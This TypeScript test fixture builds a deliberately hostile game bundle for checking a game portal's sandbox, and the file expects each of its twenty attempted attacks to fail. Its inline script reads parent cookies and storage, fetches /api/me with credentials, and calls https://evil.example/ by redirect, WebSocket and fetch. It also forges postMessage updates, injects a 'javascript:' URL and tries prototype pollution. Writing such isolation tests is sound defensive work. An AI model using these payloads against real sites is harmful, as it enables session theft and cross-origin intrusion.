/** A build that tries everything which a hosted game must not be able to do. */
import type { ZipContents } from './zips.ts'

/** What it tries. Each ends as `no`. */
export const ATTACKS = [
  'cookie',
  'document.domain',
  'event source',
  'form',
  'forged page',
  'image',
  'me',
  'opener',
  'other game',
  'other tab',
  'outside',
  'own cookie',
  'portal frame',
  'script',
  'service worker',
  'storage',
  'top',
  'top link',
  'web socket',
  'window name',
] as const

/**
 * The build. It stores what it got as `loot` before `onDone`, a line of script, runs.
 *
 * @param portal the origin of the portal
 * @param other the address of another game
 */
export const makeHostileBuild = (portal: string, other: string, onDone = ''): ZipContents => ({
  'index.html': `<!doctype html><title>Thief</title><body><p id="out"></p><script>
    const portal = ${JSON.stringify(portal)}
    const include = { credentials: 'include' }
    const loot = {}
    const fail = () => { throw new Error('no') }
    const attempt = async (name, run) => {
      try { loot[name] = String(await run()) } catch { loot[name] = 'no' }
    }
    const load = (kind, source) => new Promise((resolve, reject) => {
      const element = document.createElement(kind)
      Object.assign(element, { onload: resolve, onerror: reject, src: source })
      document.body.append(element)
    })
    const link = (target) => {
      Object.assign(document.createElement('a'), { href: portal + '/about', target }).click()
      fail()
    }
    const [startName, startCookie] = [window.name, document.cookie]
    Promise.all([
      attempt('cookie', () => parent.document.cookie),
      attempt('own cookie', () => { document.cookie = 'session=stolen; domain=localhost; path=/'; return startCookie || fail() }),
      attempt('storage', () => parent.localStorage.length),
      attempt('window name', () => parent.name || startName.length > 40 || fail()),
      attempt('document.domain', () => { document.domain = 'localhost' }),
      attempt('top', () => { top.location = 'https://evil.example/'; fail() }),
      attempt('top link', () => link('_top')),
      attempt('other tab', () => link('_blank')),
      attempt('opener', () => open(portal) || window.opener || fail()),
      attempt('portal frame', async () => (await load('iframe', portal + '/settings')).target.contentDocument.title || fail()),
      attempt('forged page', async () => (await load('iframe', URL.createObjectURL(new Blob(
        ['<script>top.postMessage({ ioArcade: "stored", isCleared: true, changes: [["forged", "1"]] }, "*")</' + 'script>'],
        { type: 'text/html' })))) && fail()),
      attempt('form', () => {
        const form = Object.assign(document.createElement('form'), { method: 'post', action: portal + '/settings', target: 'sink' })
        document.body.append(form, Object.assign(document.createElement('iframe'), { name: 'sink' }))
        form.submit()
        fail()
      }),
      attempt('me', () => fetch(portal + '/api/me', include).then((got) => got.text())),
      attempt('event source', () => new Promise((resolve, reject) => Object.assign(new EventSource(portal + '/live', { withCredentials: true }), { onopen: resolve, onerror: reject }))),
      attempt('web socket', () => new Promise((resolve, reject) => Object.assign(new WebSocket('wss://evil.example/'), { onopen: resolve, onerror: reject }))),
      attempt('outside', () => fetch('https://evil.example/', { mode: 'no-cors' })),
      attempt('image', () => load('img', portal + '/favicon.ico')),
      attempt('script', () => load('script', portal + '/favicon.ico')),
      attempt('other game', () => fetch(${JSON.stringify(other)})),
      attempt('service worker', () => navigator.serviceWorker.register('sw.js')),
    ]).then(() => {
      for (const href of [portal + '/settings', 'javascript:alert(1)', ${JSON.stringify(other)}]) {
        parent.postMessage({ ioArcade: 'again', href }, '*')
      }
      parent.postMessage({ ioArcade: 'stored', changes: [[1, {}]] }, '*')
      localStorage.setItem('__proto__', 'own')
      localStorage.loot = JSON.stringify(loot)
      localStorage.starts = Number(localStorage.starts ?? 0) + 1
      out.textContent = JSON.stringify({ ...loot, ...({}).own && { polluted: 'yes' }, kept: Object.keys(localStorage).toSorted().join() })
      ${onDone}
    })
  </script>`,
  'sw.js': 'x',
  'plain.html': '<!doctype html><p>plain</p>',
})
